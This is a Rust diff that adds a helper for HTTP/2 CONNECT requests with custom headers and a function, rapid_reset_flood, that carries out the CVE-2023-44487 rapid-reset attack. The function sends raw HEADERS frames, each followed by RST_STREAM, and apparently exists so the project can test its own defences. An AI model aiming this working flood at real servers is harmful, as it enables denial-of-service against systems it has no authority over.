@@ -67,13 +67,63 @@ pub async fn connect_status(
     send: &mut h2::client::SendRequest<bytes::Bytes>,
     uri: &str,
 ) -> Result<http::StatusCode, h2::Error> {
+    connect_status_with(send, uri, &[]).await
+}
+
+/// Like [`connect_status`], with extra request headers.
+pub async fn connect_status_with(
+    send: &mut h2::client::SendRequest<bytes::Bytes>,
+    uri: &str,
+    headers: &[(&str, &str)],
+) -> Result<http::StatusCode, h2::Error> {
     let ready = send.clone().ready().await?;
     *send = ready;
-    let request = http::Request::builder()
-        .method(http::Method::CONNECT)
-        .uri(uri)
-        .body(())
-        .map_err(|_| h2::Reason::INTERNAL_ERROR)?;
+    let mut request = http::Request::builder().method(http::Method::CONNECT).uri(uri);
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let request = request.body(()).map_err(|_| h2::Reason::INTERNAL_ERROR)?;
     let (response, _stream) = send.send_request(request, false)?;
     Ok(response.await?.status())
+}
+
+/// An HTTP/2 rapid-reset flood (CVE-2023-44487's pattern), written as raw
+/// frames the way an attacker's tool sends them: after the preface and an
+/// empty SETTINGS, CONNECT requests to `authority`, each HEADERS frame
+/// followed by its stream's RST_STREAM (CANCEL) in the same write, so the
+/// server receives every request already withdrawn. Stops after `streams`
+/// requests or when the server closes the connection; returns how many
+/// were sent.
+pub async fn rapid_reset_flood(mut tls: TlsStream<TcpStream>, authority: &str, streams: u32) -> anyhow::Result<u32> {
+    use tokio::io::AsyncWriteExt as _;
+    anyhow::ensure!(authority.len() < 127, "the authority must fit a one-byte HPACK length");
+    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    opening.extend(frame_header(0, 0x4, 0, 0));
+    tls.write_all(&opening).await?;
+    // HPACK, literal without indexing, names from the static table:
+    // `:method` (index 2) and `:authority` (index 1).
+    let mut block = vec![0x02, 7];
+    block.extend(b"CONNECT");
+    block.extend([0x01, authority.len() as u8]);
+    block.extend(authority.as_bytes());
+    let mut sent = 0;
+    for id in (1..).step_by(2).take(streams as usize) {
+        let mut pair = frame_header(block.len(), 0x1, 0x4, id);
+        pair.extend(&block);
+        pair.extend(frame_header(4, 0x3, 0, id));
+        pair.extend(0x8u32.to_be_bytes());
+        if tls.write_all(&pair).await.is_err() {
+            break;
+        }
+        sent += 1;
+    }
+    Ok(sent)
+}
+
+/// An HTTP/2 frame header: 24-bit length, type, flags, stream id.
+fn frame_header(length: usize, kind: u8, flags: u8, stream: u32) -> Vec<u8> {
+    let mut header = (length as u32).to_be_bytes()[1..].to_vec();
+    header.extend([kind, flags]);
+    header.extend(stream.to_be_bytes());
+    header
 }
